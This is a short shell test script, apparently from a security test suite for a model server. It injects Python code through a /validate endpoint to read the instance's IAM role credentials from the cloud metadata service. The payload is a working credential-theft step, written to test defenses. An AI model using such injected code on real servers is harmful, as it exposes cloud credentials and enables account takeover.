# A compromised model server steals the instance's cloud role from the
# metadata service, from inside its own process.
. "$LIB/common.sh"
start_server
exploit /validate '
import urllib.request
urllib.request.urlopen("http://'"$IMDS"'/latest/meta-data/iam/security-credentials/role", timeout=5).read()
'
stop_server
